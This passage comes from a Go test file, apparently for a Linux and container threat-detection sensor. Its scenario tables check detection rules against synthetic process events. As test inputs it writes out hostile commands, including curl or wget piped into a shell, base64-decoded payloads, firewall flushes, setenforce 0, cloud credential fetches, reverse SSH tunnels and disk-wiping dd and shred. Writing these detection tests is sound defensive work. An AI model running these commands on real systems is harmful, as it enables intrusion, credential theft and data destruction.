			evs(writeEv(proc("ld", "/usr/bin/ld", "ld", "-o", "/src/t"), "/src/t", inCtr),
				execEv(proc("t", "/src/t", "./t"), inCtr, after(time.Second))), nil},
		scenario{"a binary from the image executed is not new", newBin, false,
			evs(execEv(proc("nginx", "/usr/sbin/nginx", "nginx"), inCtr)), nil},
		scenario{"a binary dpkg installed and then ran is not new", newBin, false,
			evs(writeEv(dpkg, "/usr/bin/jq", inCtr), execEv(jq, inCtr, after(time.Second))), nil},
		scenario{"a console script uv installed and then ran is not new", newBin, false,
			evs(writeEv(proc("uv", "/usr/local/bin/uv", "uv", "pip", "install", "httpie"), "/app/.venv/bin/http", inCtr),
				execEv(proc("http", "/usr/local/bin/python3.12", "/app/.venv/bin/python", "/app/.venv/bin/http"), inCtr, filename("/app/.venv/bin/http"), after(time.Second))), nil},
		scenario{"an exec before the write is out of order", newBin, false,
			evs(execEv(dropped, inCtr), writeEv(curl, "/tmp/x", inCtr, after(time.Second))), nil},
		scenario{"a write and exec on the host are not a container's new binary", newBin, false,
			evs(writeEv(curl, "/tmp/x"), execEv(dropped, after(time.Second))), nil},
		scenario{"a write of one file and exec of another is a partial sequence", newBin, false,
			evs(writeEv(curl, "/tmp/x", inCtr), execEv(proc("y", "/tmp/y", "/tmp/y"), inCtr, after(time.Second))), nil},
	)
	add(
		scenario{"an executable from the writable layer is a new binary", upperBin, true,
			evs(execEv(upper(proc("xmr", "/usr/local/bin/xmr", "xmr")), inCtr)), nil},
		scenario{"an executable from the image layers is not", upperBin, false,
			evs(execEv(proc("nginx", "/usr/sbin/nginx", "nginx"), inCtr)), nil},
		scenario{"a maintainer script run by dpkg from the writable layer is not", upperBin, false,
			evs(execEv(childOf(upper(proc("postinst", "/var/lib/dpkg/info/jq.postinst", "postinst")), dpkg), inCtr)), nil},
	)
	add(
		scenario{"a binary run from /dev/shm on the host is a new binary", shmBin, true,
			evs(execEv(proc(".x", "/dev/shm/.x", "/dev/shm/.x"))), nil},
		scenario{"a script in /dev/shm run through sh is a new binary", shmBin, true,
			evs(execEv(proc("s.sh", "/usr/bin/dash", "sh", "/dev/shm/s.sh"), filename("/dev/shm/s.sh"))), nil},
		scenario{"a system binary is not", shmBin, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
	)
	libW := proc("curl", "/usr/bin/curl", "curl", "-o", "/tmp/libx.so")
	loader := proc("python3", "/usr/bin/python3", "python3", "app.py")
	gcc := proc("ld", "/usr/bin/ld", "ld", "-shared", "-o", "/build/libfoo.so")
	add(
		scenario{"a library written in a container and opened by another process is loaded", newLib, true,
			evs(writeEv(libW, "/tmp/libx.so", inCtr), readEv(loader, "/tmp/libx.so", inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a versioned library named in LD_PRELOAD of a later exec is loaded", newLib, true,
			evs(writeEv(libW, "/tmp/libz.so.1", inCtr), execEv(proc("sleep", "/usr/bin/sleep", "sleep", "1"), inCtr, ldPreload("/tmp/libz.so.1"), after(time.Second))), []int{0, 1}},
		scenario{"a python dropper writing a library and loading it itself is a load", newLib, true,
			evs(writeEv(loader, "/tmp/.cache/libhelper.so", inCtr), readEv(loader, "/tmp/.cache/libhelper.so", inCtr, after(time.Second))), []int{0, 1}},
		scenario{"strip rewriting a library in place is not a load", newLib, false,
			evs(writeEv(proc("strip", "/usr/bin/strip", "strip", "libfoo.so"), "/build/libfoo.so", inCtr),
				readEv(proc("strip", "/usr/bin/strip", "strip", "libfoo.so"), "/build/libfoo.so", inCtr, after(time.Second))), nil},
		scenario{"a linker reading back the library it wrote is not a load", newLib, false,
			evs(writeEv(gcc, "/build/libfoo.so", inCtr), readEv(gcc, "/build/libfoo.so", inCtr, after(time.Second))), nil},
		scenario{"a library read before anything wrote it is not new", newLib, false,
			evs(readEv(loader, "/tmp/libx.so", inCtr), writeEv(libW, "/tmp/libx.so", inCtr, after(time.Second))), nil},
	)
	node := proc("node", "/usr/local/bin/node", "node", "server.js")
	webShell := childOf(proc("sh", "/bin/dash", "sh", "-i"), node)
	webCmd := childOf(proc("sh", "/bin/dash", "sh", "-c", "grep -i error /var/log/app.log"), node)
	renamedShell := childOf(proc("worker", "/bin/bash", "worker", "-i"), node)
	sshdL := proc("sshd", "/usr/sbin/sshd", "sshd", "-D")
	loginSh := childOf(withTTY(proc("bash", "/usr/bin/bash", "-bash")), childOf(proc("sshd", "/usr/sbin/sshd", "sshd: alice@pts/0"), sshdL))
	add(
		scenario{"a listening web server starting sh -i is a suspicious shell", svcShell, true,
			evs(listenEv(node, 8080, inCtr), execEv(webShell, inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a web server that accepted a connection starting bash renamed worker -i is a suspicious shell", svcShell, true,
			evs(acceptEv(node, 8080, "10.0.0.66", inCtr), execEv(renamedShell, inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a web server running sh -c with a -i inside the command is not interactive", svcShell, false,
			evs(listenEv(node, 8080, inCtr), execEv(webCmd, inCtr, after(time.Second))), nil},
		scenario{"an ssh login shell on a terminal is not", svcShell, false,
			evs(acceptEv(sshdL, 22, "10.0.0.66"), execEv(loginSh, stdio("tty", "tty", "tty"), after(time.Second))), nil},
		scenario{"a shell without a network service parent is only a partial sequence", svcShell, false,
			evs(execEv(childOf(proc("sh", "/bin/dash", "sh", "-i"), proc("make", "/usr/bin/make", "make")), inCtr)), nil},
	)

	// Suspicious tools and commands.
	add(
		scenario{"nmap is a network scanner", scanner, true, evs(execEv(proc("nmap", "/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"))), nil},
		scenario{"ping is not a scanner", scanner, false, evs(execEv(proc("ping", "/usr/bin/ping", "ping", "10.0.0.1"))), nil},
		scenario{"tcpdump is a sniffer", sniffer, true, evs(execEv(proc("tcpdump", "/usr/bin/tcpdump", "tcpdump", "-i", "eth0"))), nil},
		scenario{"ss is not a sniffer", sniffer, false, evs(execEv(proc("ss", "/usr/bin/ss", "ss", "-tlnp"))), nil},
		scenario{"hydra is a pentest tool", pentest, true, evs(execEv(proc("hydra", "/usr/bin/hydra", "hydra", "-l", "root", "ssh://10.0.0.1"))), nil},
		scenario{"linpeas piped into sh is a pentest tool", pentest, true, evs(execEv(proc("sh", "/bin/dash", "sh", "/tmp/linpeas.sh"))), nil},
		scenario{"sqlmap run through python is a pentest tool", pentest, true, evs(execEv(proc("python3", "/usr/bin/python3", "python3", "/opt/sqlmap/sqlmap.py", "-u", "http://x/?id=1"))), nil},
		scenario{"secretsdump.py run through python is a pentest tool", pentest, true, evs(execEv(proc("python3", "/usr/bin/python3", "python3", "secretsdump.py", "-just-dc", "x"))), nil},
		scenario{"a python web app is not a pentest tool", pentest, false, evs(execEv(proc("python3", "/usr/bin/python3", "python3", "-m", "gunicorn", "app:app"))), nil},
		scenario{"chisel is a tunnelling tool", tunnel, true, evs(execEv(proc("chisel", "/tmp/chisel", "chisel", "client", "10.0.0.9:8000", "R:socks"))), nil},
		scenario{"ssh is not a tunnelling tool", tunnel, false, evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "host"))), nil},
		scenario{"weevely is a backdoor tool", backdoor, true, evs(execEv(proc("weevely", "/usr/bin/weevely", "weevely", "http://x/shell.php", "pw"))), nil},
		scenario{"php-fpm is not a backdoor tool", backdoor, false, evs(execEv(proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm8.2"))), nil},
	)
	add(
		scenario{"curl piped into bash is a download-and-execute", curlPipe, true,
			evs(execEv(sh("-c", "curl -fsSL http://10.0.0.9/i.sh | bash"))), nil},
		scenario{"wget -O- piped into sudo -E sh through busybox sh is a download-and-execute", curlPipe, true,
			evs(execEv(proc("sh", "/bin/busybox", "sh", "-c", "wget -qO- http://x/i | sudo -E /bin/sh"))), nil},
		scenario{"curl piped into python3 is a download-and-execute", curlPipe, true,
			evs(execEv(sh("-c", "curl -s http://x/p.py | python3 -"))), nil},
		scenario{"bash fed by process substitution from curl is a download-and-execute", curlPipe, true,
			evs(execEv(sh("-c", "bash <(curl -s http://x/i.sh)"))), nil},
		scenario{"wget piped into busybox sh is a download-and-execute", curlPipe, true,
			evs(execEv(proc("sh", "/bin/busybox", "sh", "-c", "wget -qO- http://x/i | busybox sh"))), nil},
		scenario{"curl piped into jq is not", curlPipe, false,
			evs(execEv(sh("-c", "curl -s http://localhost:8080/health | jq .status"))), nil},
		scenario{"a download saved to a file is not", curlPipe, false,
			evs(execEv(sh("-c", "curl -o /tmp/x.tgz http://x/x.tgz && tar xzf /tmp/x.tgz"))), nil},
		scenario{"base64 -d piped into sh is a decoded payload", decodePipe, true,
			evs(execEv(sh("-c", "echo Y3VybCB4fHNo | base64 -d | sh"))), nil},
		scenario{"base64 with -w0 before --decode piped into bash is a decoded payload", decodePipe, true,
			evs(execEv(sh("-c", "echo x | base64 -w0 --decode | bash"))), nil},
		scenario{"xxd -r -p piped into perl is a decoded payload", decodePipe, true,
			evs(execEv(sh("-c", "printf 6869 | xxd -r -p | perl"))), nil},
		scenario{"base32 -d piped into busybox sh is a decoded payload", decodePipe, true,
			evs(execEv(sh("-c", "echo MNQXI | base32 -d | busybox sh"))), nil},
		scenario{"base64 -d into a file is not", decodePipe, false,
			evs(execEv(sh("-c", "base64 -d cert.b64 > cert.pem"))), nil},
		scenario{"base64 encoding piped into sh-like tee is not", decodePipe, false,
			evs(execEv(sh("-c", "tar c . | base64 | tee out.b64"))), nil},
	)
	wget := proc("wget", "/usr/bin/wget", "wget", "http://x/payload")
	payload := proc("payload", "/root/payload", "./payload")
	add(
		scenario{"a file wget saved and then executed is a downloaded file executed", dlExec, true,
			evs(writeEv(wget, "/root/payload"), execEv(payload, after(5*time.Second))), []int{0, 1}},
		scenario{"a download that is never executed is a partial sequence", dlExec, false,
			evs(writeEv(wget, "/root/payload"), execEv(proc("tar", "/usr/bin/tar", "tar", "xf", "/root/payload"), after(time.Second))), nil},
		scenario{"an exec before the download is out of order", dlExec, false,
			evs(execEv(payload), writeEv(wget, "/root/payload", after(time.Second))), nil},
	)
	bad := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	add(
		scenario{"an executable whose hash is in the config map list is malicious", malHash, true,
			evs(execEv(sha(proc("kthreadd2", "/var/tmp/kthreadd2", "kthreadd2"), bad))), nil},
		scenario{"the hash known only when the process exits still fires", malHash, true,
			evs(exitEv(sha(proc("kthreadd2", "/var/tmp/kthreadd2", "kthreadd2"), bad))), nil},
		scenario{"an executable with another hash is not", malHash, false,
			evs(execEv(sha(proc("ls", "/usr/bin/ls", "ls"), strings.Repeat("ab", 32)))), nil},
	)
	own := "4f3c2a1b9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a"
	add(
		scenario{"an executable on the operator's own list", customHash, true,
			evs(execEv(sha(proc("updater", "/opt/app/updater", "updater"), own), inCtr)), nil},
		scenario{"a hash on the built-in list only is the other rule's", customHash, false,
			evs(execEv(sha(proc("kthreadd2", "/var/tmp/kthreadd2", "kthreadd2"), bad))), nil},
	)
	add(
		scenario{"xmrig is a miner", miner, true, evs(execEv(proc("xmrig", "/opt/xmrig", "xmrig"))), nil},
		scenario{"a renamed miner with a stratum URL is a miner", miner, true,
			evs(execEv(proc("systemd-logd", "/tmp/systemd-logd", "systemd-logd", "-o", "STRATUM+TCP://pool.example:3333", "-u", "4Ab"))), nil},
		scenario{"a renamed miner with xmrig's options is a miner", miner, true,
			evs(execEv(proc("kworker", "/tmp/kw", "kworker", "--donate-level", "1", "-o", "x:443"))), nil},
		scenario{"a renamed miner with algo, pool and user options is a miner", miner, true,
			evs(execEv(proc("k", "/tmp/k", "k", "--algo", "rx/0", "--url", "pool:3333", "--user", "w"))), nil},
		scenario{"a renamed xmrig with its thread hint is a miner", miner, true,
			evs(execEv(proc("php-fpm", "/tmp/.php-fpm", "php-fpm", "--cpu-max-threads-hint=50", "-o", "10.0.0.9:443"))), nil},
		scenario{"chronyc reporting its stratum is not a miner", miner, false,
			evs(execEv(proc("chronyc", "/usr/bin/chronyc", "chronyc", "tracking", "stratum"))), nil},
	)

	// Defence evasion.
	add(
		scenario{"an i386 program run in a container", compat32, true,
			evs(execEv(is32(proc("legacy", "/tmp/legacy", "/tmp/legacy")), inCtr)), nil},
		scenario{"a 64-bit program is not", compat32, false,
			evs(execEv(proc("ls", "/usr/bin/ls", "ls"), inCtr)), nil},
		scenario{"an implant sets up an io_uring in a container", ioUring, true,
			evs(ioUringEv(proc("kworker", "/tmp/.kw", "kworker"), inCtr)), nil},
		scenario{"a refused attempt (the runtime's seccomp profile) still is", ioUring, true,
			evs(ioUringEv(proc("kworker", "/tmp/.kw", "kworker"), inCtr, failed("EPERM", 1))), nil},
		scenario{"Node.js probing for io_uring at start is not", ioUring, false,
			evs(ioUringEv(proc("node", "/usr/local/bin/node", "node", "server.js"), inCtr)), nil},
		scenario{"a program renamed node elsewhere still is", ioUring, true,
			evs(ioUringEv(proc("node", "/tmp/node", "node"), inCtr)), nil},
		scenario{"io_uring on the host (databases, QEMU) is not", ioUring, false,
			evs(ioUringEv(proc("qemu-system-x86_64", "/usr/bin/qemu-system-x86_64", "qemu-system-x86_64"))), nil},
		scenario{"a memfd executed with execveat is fileless", filelessR, true,
			evs(execEv(fileless(proc("3", "/memfd:payload (deleted)", "x")), execveat)), nil},
		scenario{"a deleted file executed is fileless", filelessR, true,
			evs(execEv(fileless(proc("x", "/tmp/x (deleted)", "/tmp/x")))), nil},
		scenario{"runc's sealed memfd copy started by runc is not", filelessR, false,
			evs(execEv(withParents(fileless(proc("runc:[1:CHILD]", "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init")),
				anc{"runc", "/usr/bin/runc"}))), nil},
		scenario{"a memfd named like runc's but not started by runc is fileless", filelessR, true,
			evs(execEv(withParents(fileless(proc("runc", "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc")), anc{"bash", "/usr/bin/bash"}))), nil},
		scenario{"an ordinary executable is not fileless", filelessR, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
	)
	inj := proc("inj", "/tmp/inj", "./inj", "1234")
	fakeGDB := proc("gdb", "/tmp/gdb", "gdb")
	gdb := proc("gdb", "/usr/bin/gdb", "gdb", "-p", "1234")
	add(
		scenario{"/proc/<pid>/mem opened for writing is process injection", procMem, true,
			evs(openEv(inj, "openat", "/proc/1234/mem", oRDWR)), nil},
		scenario{"a thread's /proc/<pid>/task/<tid>/mem opened for writing is process injection", procMem, true,
			evs(openEv(inj, "openat2", "/proc/1234/task/1240/mem", oWRONLY)), nil},
		scenario{"an injector renamed gdb is not a debugger", procMem, true,
			evs(openEv(fakeGDB, "openat", "/proc/1234/mem", oRDWR)), nil},
		scenario{"gdb writing breakpoints through /proc/<pid>/mem is not", procMem, false,
			evs(openEv(gdb, "openat", "/proc/1234/mem", oRDWR)), nil},
		scenario{"the sensor reading /proc/<pid>/mem read-only is not", procMem, false,
			evs(openEv(proc("sensor", "/usr/local/bin/vigil-sensor", "sensor"), "openat", "/proc/1234/mem", oRDONLY)), nil},
	)
	add(
		scenario{"PTRACE_ATTACH by an unknown program is process injection", ptraceInj, true, evs(ptraceEv(inj, 16, "PTRACE_ATTACH", 1234)), nil},
		scenario{"PTRACE_POKETEXT by an unknown program is process injection", ptraceInj, true, evs(ptraceEv(inj, 4, "PTRACE_POKETEXT", 1234)), nil},
		scenario{"PTRACE_SEIZE by an injector renamed strace is process injection", ptraceInj, true,
			evs(ptraceEv(proc("strace", "/dev/shm/strace", "strace"), 0x4206, "PTRACE_SEIZE", 1234)), nil},
		scenario{"gdb attaching is not", ptraceInj, false, evs(ptraceEv(gdb, 16, "PTRACE_ATTACH", 1234)), nil},
		scenario{"strace seizing is not", ptraceInj, false, evs(ptraceEv(proc("strace", "/usr/bin/strace", "strace", "-p", "1"), 0x4206, "PTRACE_SEIZE", 1)), nil},
		scenario{"PTRACE_CONT is not injection", ptraceInj, false, evs(ptraceEv(inj, 7, "PTRACE_CONT", 1234)), nil},
	)
	add(
		scenario{"process_vm_writev into another process is injection", vmWrite, true, evs(vmWriteEv(inj, 1234)), nil},
		scenario{"process_vm_writev by gdb is not", vmWrite, false, evs(vmWriteEv(gdb, 1234)), nil},
	)
	gdbChild := withParents(proc("gdb", "/usr/bin/gdb", "gdb", "./a.out"), anc{"gdb", "/usr/bin/gdb"}, anc{"bash", "/usr/bin/bash"})
	add(
		scenario{"PTRACE_TRACEME by a program is anti-debugging", traceme, true, evs(ptraceEv(proc("x", "/tmp/x", "./x"), 0, "PTRACE_TRACEME", 0)), nil},
		scenario{"the child gdb forks asking to be traced is not", traceme, false, evs(ptraceEv(gdbChild, 0, "PTRACE_TRACEME", 0)), nil},
		scenario{"the child strace forks asking to be traced is not", traceme, false,
			evs(ptraceEv(withParents(proc("strace", "/usr/bin/strace", "strace", "ls"), anc{"bash", "/usr/bin/bash"}), 0, "PTRACE_TRACEME", 0)), nil},
	)
	kmodP := proc("modprobe", "/usr/bin/kmod", "modprobe", "br_netfilter")
	add(
		scenario{"insmod of a module from /tmp is a module load", kmod, true,
			evs(moduleEv(proc("insmod", "/usr/bin/kmod", "insmod", "/tmp/rk.ko"), "finit_module", "/tmp/rk.ko")), nil},
		scenario{"a failed init_module attempt is a module load", kmod, true,
			evs(moduleEv(proc("x", "/tmp/x", "./x"), "init_module", "", failed("EPERM", 1))), nil},
		scenario{"modprobe in a container is a module load", kmod, true,
			evs(moduleEv(kmodP, "finit_module", "/lib/modules/6.1.0/kernel/net/bridge/br_netfilter.ko", inCtr)), nil},
		scenario{"host modprobe loading a packaged module is not", kmod, false,
			evs(moduleEv(kmodP, "finit_module", "/lib/modules/6.1.0/kernel/net/bridge/br_netfilter.ko")), nil},
		scenario{"a renamed loader with a packaged module path is a module load", kmod, true,
			evs(moduleEv(proc("modprobe", "/tmp/modprobe", "modprobe"), "finit_module", "/lib/modules/6.1.0/extra/rk.ko")), nil},
		scenario{"busybox insmod reading a module from /tmp is a module load, with no module syscall seen", kmod, true,
			evs(openEv(proc("insmod", "/bin/busybox", "insmod", "/tmp/rk.ko"), "openat", "/tmp/rk.ko", oRDONLY|oCLOEXC)), nil},
		scenario{"a loader of any name reading a compressed module in a container is a module load", kmod, true,
			evs(openEv(proc("svc", "/usr/local/bin/svc", "svc"), "openat", "/dev/shm/.x/hid.ko.xz", oRDONLY, inCtr)), nil},
		scenario{"modinfo inspecting a module outside the tree is not", kmod, false,
			evs(openEv(proc("modinfo", "/usr/bin/kmod", "modinfo", "./hello.ko"), "openat", "/home/dev/hello/hello.ko", oRDONLY)), nil},
		scenario{"the linker writing a freshly built module is not", kmod, false,
			evs(openEv(proc("ld", "/usr/bin/x86_64-linux-gnu-ld.bfd", "ld", "-r", "-o", "hello.ko"), "openat", "/home/dev/hello/hello.ko", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"cpio packing modules into an initramfs is not", kmod, false,
			evs(openEv(proc("cpio", "/usr/bin/cpio", "cpio", "--quiet", "-o", "-H", "newc"), "openat", "/var/tmp/mkinitramfs_Ab12Cd/usr/lib/modules/6.1.0/kernel/fs/overlayfs/overlay.ko", oRDONLY)), nil},
		scenario{"host modprobe reading a packaged module is not", kmod, false,
			evs(openEv(kmodP, "openat", "/usr/lib/modules/6.1.0/kernel/net/bridge/br_netfilter.ko.xz", oRDONLY|oCLOEXC)), nil},
	)
	add(
		scenario{"iptables -F is disabling the firewall", defences, true, evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-F"))), nil},
		scenario{"iptables -w -t filter --flush INPUT is disabling the firewall", defences, true,
			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-w", "-t", "filter", "--flush", "INPUT"))), nil},
		scenario{"an ACCEPT input policy is disabling the firewall", defences, true,
			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-P", "INPUT", "ACCEPT"))), nil},
		scenario{"nft flush ruleset is disabling the firewall", defences, true, evs(execEv(proc("nft", "/usr/sbin/nft", "nft", "flush", "ruleset"))), nil},
		scenario{"systemctl stop auditd is stopping a security service", defences, true,
			evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "stop", "auditd"))), nil},
		scenario{"pkill falco is stopping a security service", defences, true, evs(execEv(proc("pkill", "/usr/bin/pkill", "pkill", "-9", "falco"))), nil},
		scenario{"setenforce 0 is disabling SELinux", defences, true, evs(execEv(proc("setenforce", "/usr/sbin/setenforce", "setenforce", "0"))), nil},
		scenario{"dockerd flushing its own DOCKER chain is not", defences, false,
			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "--wait", "-t", "nat", "-F", "DOCKER"))), nil},
		scenario{"a CNI plugin deleting its own chain is not", defences, false,
			evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-t", "nat", "-X", "CNI-abc123"))), nil},
		scenario{"listing rules is not", defences, false, evs(execEv(proc("iptables", "/usr/sbin/iptables", "iptables", "-L", "-n"))), nil},
		scenario{"restarting nginx is not", defences, false, evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "restart", "nginx"))), nil},
	)
	add(
		scenario{"crontab -r removes the crontab", crontabRm, true, evs(execEv(proc("crontab", "/usr/bin/crontab", "crontab", "-r"))), nil},
		scenario{"crontab -l only lists", crontabRm, false, evs(execEv(proc("crontab", "/usr/bin/crontab", "crontab", "-l"))), nil},
	)
	echo := sh("-c", "echo /tmp/l.so > /etc/ld.so.preload")
	add(
		scenario{"/etc/ld.so.preload opened for writing", preload, true, evs(openEv(echo, "openat", "/etc/ld.so.preload", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"/etc/ld.so.preload created with creat(2)", preload, true, evs(openEv(echo, "creat", "/etc/ld.so.preload", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"a file renamed over /etc/ld.so.preload", preload, true, evs(renameEv(echo, "renameat2", "/tmp/p", "/etc/ld.so.preload")), nil},
		scenario{"a symlink planted at /etc/ld.so.preload", preload, true, evs(linkEv(echo, "symlinkat", "/tmp/p", "/etc/ld.so.preload")), nil},
		scenario{"/etc/ld.so.preload written through /proc/self/fd is seen at its resolved path", preload, true,
			evs(openEv(echo, "openat", "/etc/ld.so.preload", oWRONLY|oTRUNC, requested("/proc/self/fd/7"))), nil},
		scenario{"/etc/ld.so.preload written through a symlink in /tmp is seen at its resolved path", preload, true,
			evs(openEv(echo, "openat2", "/etc/ld.so.preload", oWRONLY|oCREAT, requested("/tmp/innocent"))), nil},
		scenario{"the loader reading /etc/ld.so.preload is not", preload, false, evs(readEv(proc("ls", "/usr/bin/ls", "ls"), "/etc/ld.so.preload")), nil},
	)
	add(
		scenario{"curl fetching the ECS task's credentials", taskCreds, true,
			evs(connectEv(proc("curl", "/usr/bin/curl", "curl", "169.254.170.2/v2/credentials/2f1c"), "169.254.170.2", 80, inCtr)), nil},
		scenario{"a python one-liner fetching EKS Pod Identity credentials", taskCreds, true,
			evs(connectEv(proc("python3", "/usr/bin/python3", "python3", "-c", "import urllib.request as u; print(u.urlopen('http://169.254.170.23/v1/credentials').read())"), "169.254.170.23", 80, inCtr)), nil},
		scenario{"the AWS SDK in an application fetching them is not", taskCreds, false,
			evs(connectEv(proc("java", "/usr/bin/java", "java", "-jar", "app.jar"), "169.254.170.2", 80, inCtr)), nil},
		scenario{"curl reaching another address is not", taskCreds, false,
			evs(connectEv(proc("curl", "/usr/bin/curl", "curl", "http://10.0.0.5/"), "10.0.0.5", 80, inCtr)), nil},
	)
	add(
		scenario{"chattr -ia on a crontab", chattr, true,
			evs(execEv(proc("chattr", "/usr/bin/chattr", "chattr", "-ia", "/var/spool/cron/crontabs/root"))), nil},
		scenario{"chattr +i locking authorized_keys", chattr, true,
			evs(execEv(proc("chattr", "/usr/bin/chattr", "chattr", "-R", "+i", "/root/.ssh/authorized_keys"), inCtr)), nil},
		scenario{"chattr +C (no copy-on-write) for a database directory is not", chattr, false,
			evs(execEv(proc("chattr", "/usr/bin/chattr", "chattr", "+C", "/var/lib/mysql"))), nil},
		scenario{"lsattr listing attributes is not", chattr, false,
			evs(execEv(proc("lsattr", "/usr/bin/lsattr", "lsattr", "-a", "/etc/passwd"))), nil},
	)
	cp := proc("cp", "/usr/bin/cp", "cp", "/tmp/.p", "/usr/bin/ps")
	add(
		scenario{"a trojanized ps copied over the real one", sysBinary, true, evs(writeEv(cp, "/usr/bin/ps")), nil},
		scenario{"a patched C library renamed into place", sysBinary, true,
			evs(renameEv(proc("python3", "/usr/bin/python3", "python3", "-c", "import os; os.rename('/tmp/l', '/lib/x86_64-linux-gnu/libc.so.6')"),
				"renameat", "/tmp/l", "/lib/x86_64-linux-gnu/libc.so.6", inCtr)), nil},
		scenario{"apt installing a package is not", sysBinary, false,
			evs(writeEv(withParents(proc("dpkg", "/usr/bin/dpkg", "dpkg", "--unpack"), anc{"apt-get", "/usr/bin/apt-get"}), "/usr/bin/jq.dpkg-new")), nil},
		scenario{"update-alternatives switching a link is not", sysBinary, false,
			evs(linkEv(proc("update-alternatives", "/usr/bin/update-alternatives", "update-alternatives"), "symlinkat", "/etc/alternatives/editor", "/usr/bin/editor")), nil},
		scenario{"a tool downloaded to /usr/local/bin is not", sysBinary, false, evs(writeEv(proc("curl", "/usr/bin/curl", "curl"), "/usr/local/bin/kubectl", inCtr)), nil},
		scenario{"python compiling a module's bytecode under /usr/lib is not", sysBinary, false,
			evs(writeEv(proc("python3", "/usr/bin/python3", "python3", "app.py"), "/usr/lib/python3/dist-packages/yaml/__pycache__/__init__.cpython-311.pyc")), nil},
		scenario{"removing a program from an image is not", sysBinary, false, evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm", "-f", "/usr/bin/wget"), "/usr/bin/wget", inCtr)), nil},
	)
	catP := proc("cat", "/bin/busybox", "cat")
	add(
		scenario{"a container reading the CA key through a host path mount", kubePKI, true, evs(readEv(catP, "/host/etc/kubernetes/pki/ca.key", inCtr)), nil},
		scenario{"the admin kubeconfig read on a control-plane node", kubePKI, true,
			evs(readEv(proc("python3", "/usr/bin/python3", "python3", "steal.py"), "/etc/kubernetes/admin.conf")), nil},
		scenario{"the API server reading its own key is not", kubePKI, false,
			evs(readEv(proc("kube-apiserver", "/usr/local/bin/kube-apiserver", "kube-apiserver"), "/etc/kubernetes/pki/apiserver.key", inCtr)), nil},
		scenario{"the kubelet reading its client certificate is not", kubePKI, false,
			evs(readEv(proc("kubelet", "/usr/bin/kubelet", "kubelet"), "/var/lib/kubelet/pki/kubelet-client-current.pem")), nil},
		scenario{"reading the cluster's public CA certificate is not", kubePKI, false, evs(readEv(catP, "/etc/kubernetes/pki/ca.crt")), nil},
	)
	add(
		scenario{"/proc/kcore read by a shell tool", rawMem, true, evs(readEv(proc("dd", "/usr/bin/dd", "dd", "if=/proc/kcore"), "/proc/kcore")), nil},
		scenario{"/dev/mem opened for writing in a container, refused", rawMem, true,
			evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/dev/mem", oRDWR, inCtr, failed("EPERM", 1))), nil},
		scenario{"dmidecode reading firmware tables is not", rawMem, false, evs(readEv(proc("dmidecode", "/usr/sbin/dmidecode", "dmidecode"), "/dev/mem")), nil},
		scenario{"reading /proc/meminfo is not", rawMem, false, evs(readEv(catP, "/proc/meminfo")), nil},
	)
	add(
		scenario{"ssh -fNR exposing the inside's SSH on the attacker's host", sshTunnel, true,
			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-fNR", "2222:localhost:22", "tunnel@203.0.113.9"), inCtr)), nil},
		scenario{"ssh -D as a SOCKS pivot", sshTunnel, true,
			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-N", "-D", "1080", "user@10.0.0.9"))), nil},
		scenario{"autossh -R8080:localhost:80 with an attached argument", sshTunnel, true,
			evs(execEv(proc("autossh", "/usr/bin/autossh", "autossh", "-M", "0", "-R8080:localhost:80", "u@h"))), nil},
		scenario{"git over ssh is not", sshTunnel, false,
			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com", "git-upload-pack 'org/repo.git'"))), nil},
		scenario{"ssh with a key file whose name has an R is not", sshTunnel, false,
			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-i", "/root/.ssh/DEPLOY_R", "deploy@10.0.0.5", "uptime"))), nil},
		scenario{"a local forward (-L) is not", sshTunnel, false,
			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-L", "5432:db:5432", "bastion"))), nil},
	)
	add(
		scenario{"apt-get install nmap in a running container", pkgInstall, true,
			evs(execEv(proc("apt-get", "/usr/bin/apt-get", "apt-get", "install", "-y", "nmap"), inCtr)), nil},
		scenario{"apk add in an Alpine container", pkgInstall, true,
			evs(execEv(proc("apk", "/sbin/apk", "apk", "add", "--no-cache", "socat"), inCtr)), nil},
		scenario{"apt-get update alone is not", pkgInstall, false, evs(execEv(proc("apt-get", "/usr/bin/apt-get", "apt-get", "update"), inCtr)), nil},
		scenario{"apt-get install on the host is not", pkgInstall, false,
			evs(execEv(proc("apt-get", "/usr/bin/apt-get", "apt-get", "install", "-y", "jq"))), nil},
		scenario{"dpkg -l listing packages is not", pkgInstall, false, evs(execEv(proc("dpkg", "/usr/bin/dpkg", "dpkg", "-l"), inCtr)), nil},
	)
	add(
		scenario{"shred -uz over the database files", wiper, true,
			evs(execEv(proc("shred", "/usr/bin/shred", "shred", "-uz", "/var/lib/postgresql/15/main/base/16384/2619"), inCtr)), nil},
		scenario{"dd writing zeros over a disk", wiper, true,
			evs(execEv(proc("dd", "/usr/bin/dd", "dd", "if=/dev/zero", "of=/dev/nvme0n1", "bs=1M"))), nil},
